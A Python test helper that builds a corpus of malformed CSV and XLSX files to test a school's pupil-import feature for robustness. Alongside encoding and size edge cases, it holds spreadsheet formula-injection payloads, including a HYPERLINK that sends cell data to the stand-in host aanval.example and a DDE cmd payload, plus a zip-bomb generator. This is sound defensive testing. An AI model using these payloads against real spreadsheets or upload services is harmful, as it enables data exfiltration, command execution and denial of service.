"""Bad import files, built from one good header row and data row of an import.

The files are made here, not committed, so the repository stays small (the huge cell is
1 MB, the 50,000-row file several MB). `python tests/data/bad_imports/corpus.py DIR`
writes the pupil corpus to DIR to try by hand in the browser.
"""

import codecs
import csv
import io
import random
import sys
import zipfile
from pathlib import Path

FORMULAS = ['=HYPERLINK("http://aanval.example/?d="&A1;"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
# The PNG signature and the start of an IHDR chunk: what a picture renamed .csv begins with.
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
# A good header row and data row of the pupil import and of the DUO SWV import (the
# pupil row names school 77AA00, which the test makes).
PUPILS = (
    ["voornaam", "achternaam", "geboortedatum", "doelgroep", "school", "niveau"],
    ["Fenna", "Kind", "14-03-2012", "tos", "77AA00", "havo"],
)
DUO_SWVS = (
    ["SAMENWERKINGSVERBAND", "NAAM SAMENWERKINGSVERBAND", "PLAATSNAAM"],
    ["VO 98-01", "Swv Noord", "Testveen"],
)


def _lines(rows, delimiter=";", newline="\n") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return out.getvalue()


def _zip(members: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def corpus(headers: list[str], row: list[str]) -> dict[str, tuple[str, bytes]]:
    """name -> (file name, bytes). `row` is a good data row for `headers`; the second
    cell gets an accent so that the encodings differ."""
    accented = [row[0], row[1] + " Zuidérpunt", *row[2:]]
    good = _lines([headers, accented])
    rng = random.Random(12)  # noqa: S311 - the same garbage on every run, no secret
    return {
        "utf16_with_bom": ("f.csv", good.encode("utf-16")),
        "utf16_le_without_bom": ("f.csv", good.encode("utf-16-le")),
        "utf16_be_without_bom": ("f.csv", good.encode("utf-16-be")),
        "excel_unicode_text": (
            "f.txt",
            codecs.BOM_UTF16_LE + _lines([headers, accented], "\t").encode("utf-16-le"),
        ),
        "utf8_with_bom": ("f.csv", good.encode("utf-8-sig")),
        "latin1": ("f.csv", good.encode("latin-1")),
        "cp1252_quotes": (
            "f.csv",
            _lines([headers, [row[0], row[1] + " \u2018de\u2019 \u20ac", *row[2:]]]).encode(
                "cp1252"
            ),
        ),
        "mixed_encodings": (
            "f.csv",
            _lines([headers]).encode()
            + _lines([accented]).encode("cp1252")
            + _lines([accented]).encode(),
        ),
        "binary_garbage": ("f.csv", rng.randbytes(4096)),
        "png_renamed_csv": ("f.csv", PNG + rng.randbytes(512)),
        "empty": ("f.csv", b""),
        "only_header": ("f.csv", _lines([headers]).encode()),
        "only_blank_lines": ("f.csv", b"\n\n;;;\n\r\n"),
        "semicolons": ("f.csv", good.encode()),
        "commas": ("f.csv", _lines([headers, accented], ",").encode()),
        "tabs": ("f.csv", _lines([headers, accented], "\t").encode()),
        "missing_columns": ("f.csv", _lines([["kolom a", "kolom b"], ["1", "2"]]).encode()),
        "extra_columns": (
            "f.csv",
            _lines([[*headers, "diagnose", "opmerking"], [*accented, "geheim", "x"]]).encode(),
        ),
        "duplicated_headers": (
            "f.csv",
            _lines([[*headers, headers[1]], [*accented, "ander"]]).encode(),
        ),
        "huge_cell": ("f.csv", _lines([headers, [row[0], "x" * 1_000_000, *row[2:]]]).encode()),
        "very_long_line": ("f.csv", _lines([headers, accented + ["y"] * 200_000]).encode()),
        "rows_over_the_limit": ("f.csv", _lines([headers] + [accented] * 50_000).encode()),
        # One formula per file: the row keys stay the same, so rows do not clash.
        **{
            f"formula_{kind}": ("f.csv", _lines([headers, [row[0], f, *row[2:]]]).encode())
            for kind, f in zip(("hyperlink", "cmd", "at"), FORMULAS, strict=True)
        },
        "nul_bytes": ("f.csv", good.encode().replace(b"\n", b"\x00\n", 1)),
        "crlf": ("f.csv", _lines([headers, accented], newline="\r\n").encode()),
        "cr_only": ("f.csv", _lines([headers, accented], newline="\r").encode()),
        "unbalanced_quotes": (
            "f.csv",
            (_lines([headers]) + '"' + _lines([accented, accented])).encode(),
        ),
        "xlsx_not_a_zip": ("f.xlsx", good.encode()),
        "zip_not_an_xlsx": ("f.xlsx", _zip({"leesmij.txt": "geen werkblad"})),
        "xlsx_renamed_csv": (
            "f.csv",
            _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
        ),
        "xlsx_zip_bomb": ("f.xlsx", zip_bomb()),
    }


def zip_bomb(unpacked_mb: int = 300) -> bytes:
    """A zip of a few hundred kB that unpacks to `unpacked_mb` MB of one worksheet."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b" " * (1024 * 1024)
            for _ in range(unpacked_mb):
                sheet.write(block)
    return out.getvalue()


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    cases = corpus(*PUPILS)
    for name, (filename, raw) in cases.items():
        (target / (name + Path(filename).suffix)).write_bytes(raw)
